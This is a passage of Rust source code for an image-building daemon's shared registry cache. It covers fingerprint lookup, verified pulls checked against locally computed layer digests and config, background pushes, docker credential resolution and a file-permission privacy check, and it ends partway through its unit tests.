//! The fleet's registry cache (`--registry-cache REGISTRY/REPO`): daemons that share a registry
//! build each image once. Before a cold build the image's content fingerprint is looked up in
//! the registry (one manifest request); when another daemon pushed it, it is pulled, checked
//! and tagged instead of built. After a build the image is pushed in the background.
//!
//! The tag is `fp-<fingerprint>` (sha256 of [`crate::fingerprint::Parts`]: base image id, RIE
//! digest, Dockerfile digest, layer names and every layer file's content, mode and mtime).
//!
//! **Nothing pulled is trusted.** Whoever can push to the repository can put any image under
//! any tag, labels included. Our images are deterministic, so the daemon knows, from the
//! request's own files and without the engine, the exact image a local build would make: the
//! base's diff IDs, then the diff ID of each layer tar the writer would produce (the files
//! streamed through sha256 while the pull runs: `assembly::expected_layers`), and the config
//! (the base's plus our labels). A pulled image is tagged with SAM's tag only when its rootfs
//! and config fields are exactly those ([`difference`]); otherwise it is removed, a
//! `registry_cache_mismatch` warning names the reference and the first differing layer or
//! field, `registry_cache_mismatches_total` counts it, and the build goes ahead locally (and
//! pushes the right image under the tag again). The check is always on; nothing in the image
//! or the registry can switch it off. Before the pull the lookup's answer is checked as far as
//! it goes (the platform, and manifests refused before), so a wrong image costs at most one
//! download per daemon run.
//!
//! **Pushes are owned** (see [`push_in_background`]): background tasks drained at shutdown
//! within `--shutdown-timeout` (what is cut off is logged by name, `tasks.rs`), one per
//! fingerprint, a bounded backlog, and a queued push superseded by a newer image of its tag is
//! not made. Only full assemblies are pushed: a delta's lower layers are this machine's
//! history, which a peer can neither check against its files nor pull without the whole chain.
//!
//! Every registry call goes through the engine (distribution API, pull, push), never straight
//! to the registry: the engine already decides TLS or plain HTTP (plain only for loopback and
//! the registries its `insecure-registries` lists), honours its mirrors and proxies, and takes
//! the credentials we resolve from the docker config as `X-Registry-Auth`. The lookup is the
//! engine's `GET /distribution/<ref>/json`: one manifest request (HEAD/GET with the manifest
//! list and OCI index Accept headers, so the registry never converts to schema 1), answered
//! in milliseconds by a registry on the same network; it is bounded by [`LOOKUP_TIMEOUT`] so
//! an unreachable registry costs a cold build at most that much.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::future::Future;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bollard::auth::DockerCredentials;
use serde_json::Value;
use tokio::sync::Semaphore;

use crate::assemble::{self, DiffId};
use crate::builds::{Builds, Reporter};
use crate::engine::{Engine, ImageInfo, RegistryError, RegistryManifest};
use crate::fingerprint::VERSION_LABEL;
use crate::layers::{Kind, Tree};
use crate::outcome::{Event, LogKind};
use crate::reference::ImageRef;
use crate::registry_policy::{Policy, Rates};
use crate::resolve::LayerSpec;

/// Longest a registry lookup may take before the build goes ahead locally.
pub const LOOKUP_TIMEOUT: Duration = Duration::from_secs(2);

/// Where images are shared, and what may be shared; clones share one [`State`] (refused
/// manifests, the push queue).
#[derive(Clone)]
pub struct RegistryCache {
    /// `REGISTRY/REPO`, e.g. `registry.example.com:5000/lambda-cache`.
    repository: String,
    /// The registry host, as docker config files key credentials (`host[:port]`;
    /// `https://index.docker.io/v1/` for Docker Hub).
    server: String,
    /// `--registry-cache-share-private`: also push images built from files others cannot read.
    pub share_private: bool,
    /// `--registry-cache-policy` (set by its owner; `auto` from [`RegistryCache::new`]).
    pub policy: Policy,
    state: Arc<State>,
}

impl RegistryCache {
    /// Parses `--registry-cache`: a repository whose first component names a registry
    /// (`host.domain[:port]/path`, `host:port/path` or `localhost/path`), without tag or digest.
    pub fn new(repository: &str, share_private: bool) -> Result<RegistryCache, String> {
        let repository = repository.trim_end_matches('/');
        let Some((host, path)) = repository.split_once('/') else {
            return Err("no repository path: expected REGISTRY/REPO".into());
        };
        if !(host.contains('.') || host.contains(':') || host == "localhost") {
            return Err(format!(
                "{host:?} is not a registry host; name the registry explicitly \
                 (host.domain[:port] or localhost)"
            ));
        }
        if path.contains('@')
            || path
                .rsplit('/')
                .next()
                .is_some_and(|last| last.contains(':'))
        {
            return Err("a repository without tag or digest is expected".into());
        }
        ImageRef::parse(&format!("{repository}:fp-0")).map_err(|why| why.to_string())?;
        let server = if host == "docker.io" || host == "index.docker.io" {
            "https://index.docker.io/v1/".to_owned()
        } else {
            host.to_owned()
        };
        Ok(RegistryCache {
            repository: repository.to_owned(),
            server,
            share_private,
            policy: Policy::Auto,
            state: Arc::default(),
        })
    }

    /// The load and pull rates this daemon learned (for [`Policy::Auto`]).
    pub fn rates(&self) -> &Rates {
        &self.state.rates
    }

    /// `REGISTRY/REPO` as configured.
    pub fn repository(&self) -> &str {
        &self.repository
    }

    /// Where the image with `fingerprint` (64 hex digits) is shared.
    pub fn reference(&self, fingerprint: &str) -> crate::error::Result<ImageRef> {
        let text = format!("{}:fp-{fingerprint}", self.repository);
        ImageRef::parse(&text)
            .map_err(|why| crate::error::Error::Internal(format!("cache reference {text}: {why}")))
    }

    /// The credentials for the registry as the docker CLI resolves them: `$DOCKER_CONFIG/
    /// config.json` (else `~/.docker/config.json`), `credHelpers` for this registry, then
    /// `auths` (`auth` base64 `user:password`, or `identitytoken`), then `credsStore`; helpers
    /// run as `docker-credential-<name> get`. `None` when nothing is configured (anonymous).
    pub async fn credentials(&self) -> Option<DockerCredentials> {
        let server = self.server.clone();
        let found =
            tokio::task::spawn_blocking(move || docker_credential::get_credential(&server)).await;
        use docker_credential::{CredentialRetrievalError as E, DockerCredential as C};
        match found {
            Ok(Ok(C::UsernamePassword(username, password))) => Some(DockerCredentials {
                username: Some(username),
                password: Some(password),
                serveraddress: Some(self.server.clone()),
                ..Default::default()
            }),
            Ok(Ok(C::IdentityToken(token))) => Some(DockerCredentials {
                identitytoken: Some(token),
                serveraddress: Some(self.server.clone()),
                ..Default::default()
            }),
            // No config file (the crate reports a missing file as unreadable) or no entry.
            Ok(Err(E::NoCredentialConfigured | E::ConfigNotFound | E::ConfigReadError)) => None,
            Ok(Err(err)) => {
                tracing::warn!(
                    registry = self.server, error = %err,
                    "reading registry credentials from the docker config failed; going anonymous"
                );
                None
            }
            Err(err) => {
                tracing::warn!(registry = self.server, error = %err, "credential lookup failed");
                None
            }
        }
    }
}

/// What a pulled image must be, known from the request's own inputs (never from the image):
/// the rootfs and config a local full assembly of them would have.
pub struct Expected<F> {
    /// The local base image's diff IDs, bottom first (the fingerprint names that base).
    pub base_diff_ids: Vec<String>,
    /// `os`, `architecture`, `variant` and the `config` object, in the shape of
    /// `ImageInfo::image_config` ([`expected_config`]).
    pub image_config: Value,
    /// Our layers above the base as (label, diff ID), bottom first: a computation
    /// (`assembly::expected_layers`, which may read every layer file), started only once the
    /// registry has an image to pull, and run while it is pulled.
    pub layers: F,
}

/// A pulled image that passed the check, tagged with SAM's tag.
pub struct Adopted {
    /// Its image id.
    pub id: String,
    /// Our layers' diff IDs and tar lengths, bottom first (for its listing).
    pub layers: Vec<DiffId>,
}

/// The config an image we make over a base whose inspected config is `base` (the shape of
/// `ImageInfo::image_config`) has, in that shape: the base's `os`, `architecture` and
/// `variant`, and its `config` object with `labels` added (`assemble::run_config`).
pub fn expected_config(base: &Value, labels: &BTreeMap<String, String>) -> Value {
    let top = |key: &str| base.get(key).cloned().unwrap_or(Value::Null);
    serde_json::json!({
        "os": top("os"),
        "architecture": top("architecture"),
        "variant": top("variant"),
        "config": assemble::run_config(base, labels),
    })
}

/// Before a cold build: the image with `fingerprint` from the registry, pulled, checked to be
/// exactly `expected` ([`difference`]), and tagged as `tag`. `None` (build locally) on a miss;
/// on a refused image (a `registry_cache_mismatch` warning: what was pulled is removed); and on
/// any failure, reported as a `registry_cache_unavailable` warning.
///
/// Before the pull, what the engine's lookup tells for free is checked: the manifest's
/// platform (Docker reads it from the image config) against the base's architecture, and its
/// digest against the manifests this daemon refused for the same reference, so a wrong image
/// costs at most one download per daemon run.
pub async fn fetch<F>(
    engine: &Engine,
    cache: &RegistryCache,
    (fingerprint, tag): (&str, &ImageRef),
    pull_limit: Duration,
    expected: Expected<F>,
    reporter: &Reporter,
) -> Option<Adopted>
where
    F: Future<Output = crate::error::Result<Vec<(String, DiffId)>>>,
{
    let reference = match cache.reference(fingerprint) {
        Ok(reference) => reference,
        Err(err) => {
            unavailable(
                reporter,
                tag,
                format!("registry cache: {err}; building locally"),
            );
            return None;
        }
    };
    let credentials = cache.credentials().await;
    let manifest = lookup(
        engine,
        cache,
        &reference,
        credentials.clone(),
        reporter,
        tag,
    )
    .await?;
    let architecture = expected.image_config["architecture"].as_str().unwrap_or("");
    if let Some(why) = refused_unpulled(cache, &reference, &manifest, architecture) {
        mismatch(reporter, &reference, &why, "not pulled");
        return None;
    }
    reporter.emit(Event::Log {
        kind: LogKind::Status,
        text: format!("pulling {} from the registry cache", reference.as_str()),
        step: 0,
    });
    let pulled = async {
        // Each layer's download size, as the engine reports it ("Downloading" current/total),
        // to learn the pull rate.
        let mut downloads: HashMap<String, u64> = HashMap::new();
        let started = std::time::Instant::now();
        let pulled = tokio::time::timeout(
            pull_limit,
            engine.pull_as(&reference, "", credentials, |item| {
                if item.status.as_deref() == Some("Downloading")
                    && let (Some(id), Some(total)) = (
                        &item.id,
                        item.progress_detail.as_ref().and_then(|d| d.total),
                    )
                {
                    downloads.insert(id.clone(), u64::try_from(total).unwrap_or(0));
                }
                crate::base::report_pull(reporter, reference.as_str(), item)
            }),
        )
        .await;
        if matches!(pulled, Ok(Ok(()))) {
            let downloaded = downloads.values().sum();
            cache.rates().learn_pull(downloaded, started.elapsed());
        }
        pulled
    };
    let hashed = async {
        let started = std::time::Instant::now();
        (expected.layers.await, started.elapsed())
    };
    let (pulled, (layers, hashing)) = tokio::join!(pulled, hashed);
    let failed = match pulled {
        Ok(Ok(())) => None,
        Ok(Err(err)) => Some(format!("pulling {} failed: {err}", reference.as_str())),
        Err(_) => Some(format!(
            "pulling {} took longer than --build-timeout",
            reference.as_str()
        )),
    };
    if let Some(failed) = failed {
        unavailable(reporter, tag, format!("{failed}; building locally"));
        return None;
    }
    let expected = match layers {
        Ok(layers) => Expected {
            base_diff_ids: expected.base_diff_ids,
            image_config: expected.image_config,
            layers,
        },
        Err(err) => {
            discard(engine, &reference).await;
            let why = format!("computing its layers from the request's files failed: {err}");
            unavailable(reporter, tag, format!("{why}; building locally"));
            return None;
        }
    };
    let adopted = adopt(engine, cache, &reference, &expected, tag, reporter).await;
    if adopted.is_some() {
        reporter.metrics().registry_hits.inc();
        reporter.emit(Event::Log {
            kind: LogKind::Status,
            text: format!(
                "registry cache: {} checked: its {} layers and config are what these inputs                  build (our layers' diff IDs computed in {:.2} s, during the pull)",
                reference.as_str(),
                expected.base_diff_ids.len() + expected.layers.len(),
                hashing.as_secs_f64()
            ),
            step: 0,
        });
    }
    adopted
}

/// Why the image the registry names `manifest` under `reference` is refused before it is
/// pulled: a manifest refused before, or one for another architecture than the base's.
fn refused_unpulled(
    cache: &RegistryCache,
    reference: &ImageRef,
    manifest: &RegistryManifest,
    architecture: &str,
) -> Option<String> {
    if cache
        .state
        .was_refused(reference.as_str(), &manifest.digest)
    {
        return Some(format!(
            "its manifest {} was refused before",
            manifest.digest
        ));
    }
    let platforms = &manifest.architectures;
    (!platforms.is_empty() && !platforms.iter().any(|a| a == architecture)).then(|| {
        format!(
            "the registry says it is for {}, the base is {architecture}",
            platforms.join(", ")
        )
    })
}

/// The registry's manifest for `reference`, bounded by [`LOOKUP_TIMEOUT`]; `None` on a miss
/// (counted) or a failure (a `registry_cache_unavailable` warning).
async fn lookup(
    engine: &Engine,
    cache: &RegistryCache,
    reference: &ImageRef,
    credentials: Option<DockerCredentials>,
    reporter: &Reporter,
    tag: &ImageRef,
) -> Option<RegistryManifest> {
    let looked = tokio::time::timeout(
        LOOKUP_TIMEOUT,
        engine.registry_lookup(reference.as_str(), credentials),
    )
    .await;
    let why = match looked {
        Ok(Ok(Some(manifest))) => return Some(manifest),
        Ok(Ok(None)) => {
            reporter.metrics().registry_misses.inc();
            return None;
        }
        Ok(Err(RegistryError::Unsupported)) => "the engine has no distribution API".to_owned(),
        Ok(Err(err)) => format!("could not be asked for {}: {err}", reference.as_str()),
        Err(_) => format!("did not answer within {LOOKUP_TIMEOUT:?}"),
    };
    let message = format!(
        "registry cache {} {why}; building locally",
        cache.repository
    );
    unavailable(reporter, tag, message);
    None
}

/// The `registry_cache_unavailable` warning (logged too).
fn unavailable(reporter: &Reporter, tag: &ImageRef, message: String) {
    tracing::warn!(tag = tag.as_str(), "{message}");
    reporter.emit(Event::Warning {
        code: "registry_cache_unavailable".into(),
        message,
    });
}

/// The `registry_cache_mismatch` warning (logged too, and counted): the image under
/// `reference` is not the one this request builds, `why`; `done` says what became of it.
fn mismatch(reporter: &Reporter, reference: &ImageRef, why: &str, done: &str) {
    reporter.metrics().registry_mismatches.inc();
    let message = format!(
        "the registry cache's {} is not the image these inputs build: {why}; {done}, building \
         locally (the build pushes the right image under that tag)",
        reference.as_str()
    );
    tracing::warn!(reference = reference.as_str(), "{message}");
    reporter.emit(Event::Warning {
        code: "registry_cache_mismatch".into(),
        message,
    });
}

/// Removes the name `reference` and, when it was the pulled image's only name, the image (the
/// engine removes an image by name only when nothing else names it, and never one a container
/// uses): an image another name holds (a copy of something local) stays.
async fn discard(engine: &Engine, reference: &ImageRef) {
    if let Err(err) = engine.remove_image(reference.as_str(), false).await {
        tracing::debug!(reference = reference.as_str(), error = %err, "removing a pulled image failed");
    }
}

/// Tags the pulled image as `tag` when it is exactly `expected`; otherwise removes it and
/// remembers its manifest as refused. The cache reference is removed either way: it was only
/// a way in, and the image keeps one name, removed like any other once superseded.
async fn adopt(
    engine: &Engine,
    cache: &RegistryCache,
    reference: &ImageRef,
    expected: &Expected<Vec<(String, DiffId)>>,
    tag: &ImageRef,
    reporter: &Reporter,
) -> Option<Adopted> {
    let pulled = match engine.inspect_fresh(reference.as_str()).await {
        Ok(Some(pulled)) => pulled,
        Ok(None) => {
            let message = format!("{} vanished after its pull; building locally", reference);
            unavailable(reporter, tag, message);
            return None;
        }
        Err(err) => {
            let message = format!("inspecting {reference}: {err}; building locally");
            unavailable(reporter, tag, message);
            discard(engine, reference).await;
            return None;
        }
    };
    if let Some(why) = difference(expected, &pulled) {
        let pulled_as = format!("{}@", reference.repository());
        if let Some(digest) = pulled
            .repo_digests
            .iter()
            .find_map(|d| d.strip_prefix(&pulled_as))
        {
            cache.state.refuse(reference.as_str(), digest);
        }
        discard(engine, reference).await;
        mismatch(reporter, reference, &why, "removed what was pulled");
        return None;
    }
    let tagged = engine.tag(&pulled.id, tag).await;
    if let Err(err) = engine.untag(reference.as_str()).await {
        tracing::debug!(reference = reference.as_str(), error = %err, "untagging failed");
    }
    if let Err(err) = tagged {
        let message = format!("tagging {} as {}: {err}; building locally", pulled.id, tag);
        unavailable(reporter, tag, message);
        return None;
    }
    Some(Adopted {
        id: pulled.id,
        layers: expected.layers.iter().map(|(_, d)| d.clone()).collect(),
    })
}

/// The keys of an image's `config` a pulled image must have as expected: what Docker runs
/// (Entrypoint, Cmd, Env, WorkingDir, User, Healthcheck, StopSignal), what it sets up around
/// it (ExposedPorts, Volumes), what a build over it runs (OnBuild, Shell), and Labels (the
/// fingerprint among them). Only `ArgsEscaped` (Windows-only) is not compared.
const CHECKED_CONFIG_KEYS: &[&str] = &[
    "Entrypoint",
    "Cmd",
    "Env",
    "WorkingDir",
    "User",
    "Healthcheck",
    "StopSignal",
    "ExposedPorts",
    "Volumes",
    "OnBuild",
    "Shell",
    "Labels",
];

/// The first way `pulled` is not `expected`, in words naming the layer or field (`None`: it
/// is). Layers: every diff ID of the rootfs, in order, and no more. Config: `os`,
/// `architecture`, `variant` and the [`CHECKED_CONFIG_KEYS`] of `config`, where absent, null,
/// `""`, `[]` and `{}` are one (engines spell an unset field in each of these ways), except
/// the version label (`io.lambda-imaged.version`: which daemon release wrote the image, which
/// changes nothing it runs).
pub fn difference<L>(expected: &Expected<L>, pulled: &ImageInfo) -> Option<String>
where
    L: AsRef<[(String, DiffId)]>,
{
    let base = expected.base_diff_ids.len();
    let ours = expected.layers.as_ref();
    let wanted: Vec<(String, &str)> = (expected.base_diff_ids.iter().enumerate())
        .map(|(i, d)| (format!("base layer {}", i + 1), d.as_str()))
        .chain(
            ours.iter()
                .map(|(label, d)| (label.clone(), d.digest.as_str())),
        )
        .collect();
    let total = base + ours.len();
    for (index, got) in pulled.diff_ids.iter().enumerate() {
        let Some((label, want)) = wanted.get(index) else {
            return Some(format!(
                "layer {} ({got}) is above the {total} layers expected",
                index + 1
            ));
        };
        if got != want {
            return Some(format!(
                "layer {} of {total} ({label}) is {got}, {want} expected",
                index + 1
            ));
        }
    }
    if let Some((label, want)) = wanted.get(pulled.diff_ids.len()) {
        return Some(format!(
            "layer {} of {total} ({label}, {want}) is missing",
            pulled.diff_ids.len() + 1
        ));
    }
    let (want, got) = (&expected.image_config, &pulled.image_config);
    for key in ["os", "architecture", "variant"] {
        if set(want.get(key)) != set(got.get(key)) {
            return Some(field_difference(key, want.get(key), got.get(key)));
        }
    }
    for key in CHECKED_CONFIG_KEYS {
        let (mut want, mut got) = (want["config"].get(key), got["config"].get(key));
        let without_version = |v: Option<&Value>| {
            v.and_then(Value::as_object).map(|labels| {
                let mut labels = labels.clone();
                labels.remove(VERSION_LABEL);
                Value::Object(labels)
            })
        };
        let (want_labels, got_labels);
        if *key == "Labels" {
            (want_labels, got_labels) = (without_version(want), without_version(got));
            (want, got) = (want_labels.as_ref(), got_labels.as_ref());
        }
        if set(want) != set(got) {
            return Some(field_difference(&format!("config {key}"), want, got));
        }
    }
    None
}

/// `value` unless it is unset in one of the ways engines spell it.
fn set(value: Option<&Value>) -> Option<&Value> {
    value.filter(|v| match v {
        Value::Null => false,
        Value::String(s) => !s.is_empty(),
        Value::Array(a) => !a.is_empty(),
        Value::Object(o) => !o.is_empty(),
        _ => true,
    })
}

/// "`what` is <got>, <want> expected", each value shortened to 200 characters.
fn field_difference(what: &str, want: Option<&Value>, got: Option<&Value>) -> String {
    let shown = |v: Option<&Value>| {
        let text = set(v).map_or_else(|| "unset".to_owned(), Value::to_string);
        match text.char_indices().nth(200) {
            Some((cut, _)) => format!("{}…", &text[..cut]),
            None => text,
        }
    };
    format!("{what} is {}, {} expected", shown(got), shown(want))
}

/// Pushes queued or running at once, at most (the backlog): a build that finds it full does
/// not queue its push, says so in the log and in `registry_cache_pushes_dropped_total`, and
/// the image stays local (the next daemon that builds it pushes it).
pub const MAX_PUSH_BACKLOG: usize = 32;
/// Pushes running at once: each streams an image's layers to the registry through the engine,
/// competing with builds for its upload and the disk.
const PUSHES_AT_ONCE: usize = 2;
/// Refused manifests remembered; the set is emptied when it would grow past this (a wrong
/// image is then downloaded once more, and refused again).
const MAX_REFUSED: usize = 1024;

/// What the registry cache remembers between requests: the manifests it refused, the pushes
/// queued and running. One per daemon, shared by every clone of its [`RegistryCache`].
struct State {
    /// `reference@digest` of manifests that failed the check ([`difference`]).
    refused: Mutex<HashSet<String>>,
    pushes: Mutex<PushQueue>,
    /// Bounds the pushes that run ([`PUSHES_AT_ONCE`]); queued pushes wait here.
    slots: Semaphore,
    rates: Rates,
}

impl Default for State {
    fn default() -> State {
        State {
            refused: Mutex::default(),
            pushes: Mutex::default(),
            slots: Semaphore::new(PUSHES_AT_ONCE),
            rates: Rates::default(),
        }
    }
}

impl State {
    fn was_refused(&self, reference: &str, digest: &str) -> bool {
        crate::sync::lock(&self.refused).contains(&format!("{reference}@{digest}"))
    }

    fn refuse(&self, reference: &str, digest: &str) {
        let mut refused = crate::sync::lock(&self.refused);
        if refused.len() >= MAX_REFUSED {
            refused.clear();
        }
        refused.insert(format!("{reference}@{digest}"));
    }
}

/// The pushes queued or running (pure bookkeeping, unit-tested).
#[derive(Debug, Default)]
struct PushQueue {
    /// Fingerprints queued or being pushed: at most one push each.
    fingerprints: HashSet<String>,
    /// Per SAM tag, the ticket of the newest push queued for it: an older push of that tag
    /// that has not started when its slot comes is not made (a newer image superseded it).
    newest: HashMap<String, u64>,
    next: u64,
}

/// Why a push is not queued.
#[derive(Debug, PartialEq, Eq)]
enum NotQueued {
    /// A push of the same fingerprint is queued or running.
    Duplicate,
    /// [`MAX_PUSH_BACKLOG`] pushes are queued or running.
    Full,
}

impl PushQueue {
    /// Queues the push of `fingerprint` under `tag`: its ticket.
    fn enqueue(&mut self, tag: &str, fingerprint: &str) -> Result<u64, NotQueued> {
        if self.fingerprints.contains(fingerprint) {
            return Err(NotQueued::Duplicate);
        }
        if self.fingerprints.len() >= MAX_PUSH_BACKLOG {
            return Err(NotQueued::Full);
        }
        self.next += 1;
        self.fingerprints.insert(fingerprint.to_owned());
        self.newest.insert(tag.to_owned(), self.next);
        Ok(self.next)
    }

    /// Whether the push with `ticket` is still the newest of `tag` (else it is skipped).
    fn current(&self, tag: &str, ticket: u64) -> bool {
        self.newest.get(tag) == Some(&ticket)
    }

    /// The push with `ticket` ended (made or skipped).
    fn finish(&mut self, tag: &str, fingerprint: &str, ticket: u64) {
        self.fingerprints.remove(fingerprint);
        if self.current(tag, ticket) {
            self.newest.remove(tag);
        }
    }
}

/// One image to push after a build.
pub struct Push {
    /// The image built.
    pub image_id: String,
    /// Its fingerprint (the cache reference's tag is `fp-<fingerprint>`).
    pub fingerprint: String,
    /// SAM's tag it was built for (a newer image of the tag supersedes a push not started).
    pub tag: String,
    /// Its layer specs and walked tree, for the privacy check ([`shareable`]).
    pub layers: (Vec<LayerSpec>, Option<Arc<Tree>>),
}

/// Where a push runs and reports: the background tasks (drained at shutdown), the engine, the
/// in-flight table (ListBuilds lists the push), and the test hook held before the push.
pub struct PushContext {
    pub tasks: crate::tasks::Tasks,
    pub engine: Arc<Engine>,
    pub builds: Arc<Builds>,
    pub gate: Option<Arc<Semaphore>>,
}

/// After a build: queues the push of `push.image_id` as the image with its fingerprint, on a
/// task of its own (the client's stream is not held), named "registry-cache push of
/// <reference>" so a shutdown that cuts it off names it. At most one push per fingerprint is
/// queued or running; at most [`MAX_PUSH_BACKLOG`] in all (a full backlog drops the push with a
/// warning and a count); [`PUSHES_AT_ONCE`] run at once, and a queued push whose tag a newer
/// image took before its turn is not made. Listed by ListBuilds under the cache reference while
/// it runs and in the history once done; a failure is a logged warning and a failed entry
/// there. Unless `--registry-cache-share-private`, an image with a layer file others cannot
/// read is not pushed (see [`shareable`]); the log says which file.
pub fn push_in_background(context: PushContext, cache: RegistryCache, push: Push) {
    let reference = match cache.reference(&push.fingerprint) {
        Ok(reference) => reference,
        Err(err) => {
            tracing::warn!(error = %err, "registry cache push skipped");
            return;
        }
    };
    let queued = crate::sync::lock(&cache.state.pushes).enqueue(&push.tag, &push.fingerprint);
    let ticket = match queued {
        Ok(ticket) => ticket,
        Err(NotQueued::Duplicate) => {
            tracing::debug!(
                reference = reference.as_str(),
                "a push of it is already queued"
            );
            return;
        }
        Err(NotQueued::Full) => {
            context.builds.metrics().registry_pushes_dropped.inc();
            tracing::warn!(
                image = push.image_id,
                reference = reference.as_str(),
                "not pushed to the registry cache: {MAX_PUSH_BACKLOG} pushes are queued or \
                 running (the registry is slower than the builds); the image stays local"
            );
            return;
        }
    };
    let name = format!("registry-cache push of {}", reference.as_str());
    let tasks = context.tasks.clone();
    tasks.spawn(name, async move {
        let state = cache.state.clone();
        let slot = state.slots.acquire().await;
        if crate::sync::lock(&state.pushes).current(&push.tag, ticket) && slot.is_ok() {
            push_now(&context, &cache, &reference, &push).await;
        } else {
            tracing::info!(
                image = push.image_id,
                reference = reference.as_str(),
                "not pushed to the registry cache: a newer image of {} superseded it",
                push.tag
            );
        }
        crate::sync::lock(&state.pushes).finish(&push.tag, &push.fingerprint, ticket);
    });
}

/// The privacy check, then the push itself, listed in the in-flight table while it runs.
async fn push_now(context: &PushContext, cache: &RegistryCache, reference: &ImageRef, push: &Push) {
    if !cache.share_private {
        let (specs, tree) = push.layers.clone();
        let checked = tokio::task::spawn_blocking(move || shareable(&specs, tree.as_deref()))
            .await
            .unwrap_or_else(|err| Err(format!("the privacy check failed: {err}")));
        if let Err(why) = checked {
            tracing::warn!(
                image = push.image_id,
                reference = reference.as_str(),
                "not pushed to the registry cache: {why}; others on the fleet could read \
                 it (pass --registry-cache-share-private to share such images)"
            );
            return;
        }
    }
    let builds = &context.builds;
    let id = builds.push_started(reference.as_str());
    crate::sync::pass_gate(context.gate.as_ref()).await;
    let result = push_image(&context.engine, cache, reference, &push.image_id).await;
    if let Err(err) = &result {
        builds.metrics().registry_push_failures.inc();
        tracing::warn!(
            image = push.image_id, reference = reference.as_str(), error = %err,
            "pushing to the registry cache failed; the image stays local"
        );
    } else {
        tracing::info!(
            image = push.image_id,
            reference = reference.as_str(),
            "pushed to the registry cache"
        );
    }
    builds.push_finished(&id, result.map(|()| push.image_id.clone()));
}

async fn push_image(
    engine: &Engine,
    cache: &RegistryCache,
    reference: &ImageRef,
    image_id: &str,
) -> Result<(), String> {
    engine
        .tag(image_id, reference)
        .await
        .map_err(|err| format!("tagging for the push: {err}"))?;
    let credentials = cache.credentials().await;
    let pushed = engine.push(reference, credentials).await;
    // The push tag is only a way out: an image with two names cannot be removed by id when
    // superseded.
    if let Err(err) = engine.untag(reference.as_str()).await {
        tracing::debug!(reference = reference.as_str(), error = %err, "untagging failed");
    }
    pushed.map_err(|err| err.to_string())
}

/// Whether an image made of `specs` (walked into `tree`) may be shared: every file it holds
/// could have been read by any local user. Layers are read with the requesting client's
/// rights (`access.rs`), so a layer may hold files only that client (or its group) can read;
/// pushing them would hand them to everyone who can pull from the registry.
///
/// The rule, checked with `stat` (no reads): every regular file (a link's target for a
/// followed link) has the others-read bit, every directory on the way to it has others-search
/// (`o+x`) up to `/`, and every directory inside a layer, whose listing the image holds, has
/// others-read and -search (`o+rx`). A ZIP layer counts as its archive: the archive must be
/// others-readable and its directory chain others-searchable. Files that changed since the walk
/// are judged as they are now. `Err` names the first file or directory that fails.
pub fn shareable(specs: &[LayerSpec], tree: Option<&Tree>) -> Result<(), String> {
    let mut searchable: HashSet<PathBuf> = HashSet::new();
    let mode = |path: &Path| -> Result<u32, String> {
        std::fs::metadata(path)
            .map(|m| m.permissions().mode())
            .map_err(|err| format!("{}: {err}", path.display()))
    };
    let mut chain = |dir: Option<&Path>| -> Result<(), String> {
        let mut at = dir;
        while let Some(dir) = at {
            if dir.as_os_str().is_empty() || searchable.contains(dir) {
                return Ok(());
            }
            if mode(dir)? & 0o001 == 0 {
                return Err(format!(
                    "directory {} is not searchable by others",
                    dir.display()
                ));
            }
            searchable.insert(dir.to_owned());
            at = dir.parent();
        }
        Ok(())
    };
    for spec in specs {
        let meta = std::fs::metadata(&spec.path)
            .map_err(|err| format!("{}: {err}", spec.path.display()))?;
        chain(spec.path.parent())?;
        let wanted = if meta.is_dir() { 0o005 } else { 0o004 };
        if meta.permissions().mode() & wanted != wanted {
            return Err(format!(
                "layer {} is not readable by others",
                spec.path.display()
            ));
        }
    }
    let Some(tree) = tree else {
        return Ok(());
    };
    for (index, entries) in tree.layers.iter().enumerate() {
        let Some(spec) = specs.get(index) else {
            continue;
        };
        for entry in entries.iter().filter(|e| !e.from_cache) {
            match &entry.kind {
                Kind::Dir => {
                    let dir = spec.path.join(&entry.path);
                    if mode(&dir)? & 0o005 != 0o005 {
                        return Err(format!(
                            "directory {} is not readable by others",
                            dir.display()
                        ));
                    }
                }
                Kind::File { source, .. } => {
                    chain(source.parent())?;
                    if mode(source)? & 0o004 == 0 {
                        return Err(format!(
                            "file {} is not readable by others",
                            source.display()
                        ));
                    }
                }
                Kind::Symlink { .. } => {}
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The flag names a registry explicitly, without tag; the reference tag is `fp-<hex>`.
    #[test]
    fn repository_is_parsed_once() {
        let cache = RegistryCache::new("127.0.0.1:5000/lambda-cache/", false).unwrap();
        assert_eq!(cache.repository(), "127.0.0.1:5000/lambda-cache");
        assert_eq!(cache.server, "127.0.0.1:5000");
        assert_eq!(
            cache.reference(&"ab".repeat(32)).unwrap().as_str(),
            format!("127.0.0.1:5000/lambda-cache:fp-{}", "ab".repeat(32))
        );
        assert!(RegistryCache::new("lambda-cache", false).is_err());
        assert!(
            RegistryCache::new("library/cache", false).is_err(),
            "no registry host"
        );
        assert!(
            RegistryCache::new("localhost/cache:v1", false).is_err(),
            "tagged"
        );
        assert_eq!(
            RegistryCache::new("docker.io/me/cache", false)
                .unwrap()
                .server,
            "https://index.docker.io/v1/"
        );
    }

    /// A file only its owner can read, or a directory others cannot search, keeps an image
    /// private; world-readable files in searchable directories may be shared.
    #[test]
    fn private_files_are_not_shareable() {
        let root = tempfile::tempdir().unwrap();
        let layer = root.path().join("layer");
        std::fs::create_dir_all(layer.join("python")).unwrap();
        let file = layer.join("python/mod.py");
        std::fs::write(&file, b"x = 1\n").unwrap();
        let set = |path: &Path, mode: u32| {
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
        };
        set(root.path(), 0o755);
        set(&layer, 0o755);
        set(&layer.join("python"), 0o755);
        set(&file, 0o644);
        let specs = vec![LayerSpec {
            name: "l".into(),
            path: layer.clone(),
        }];
        let tree = crate::layers::walk(
            &specs,
            crate::layers::Limits::default(),
            &crate::stat_cache::StatCache::default(),
            &crate::archive::ZipStore::open(root.path().join("zips"), Default::default()),
        )
        .unwrap();
        assert_eq!(shareable(&specs, Some(&tree)), Ok(()));
        set(&file, 0o640);
        let refused = shareable(&specs, Some(&tree)).unwrap_err();
        assert!(refused.contains("mod.py"), "{refused}");
        set(&file, 0o644);
        set(&layer.join("python"), 0o750);
        let refused = shareable(&specs, Some(&tree)).unwrap_err();
        assert!(refused.contains("python"), "{refused}");
    }

    fn diff_id(digest: &str) -> DiffId {
        DiffId {
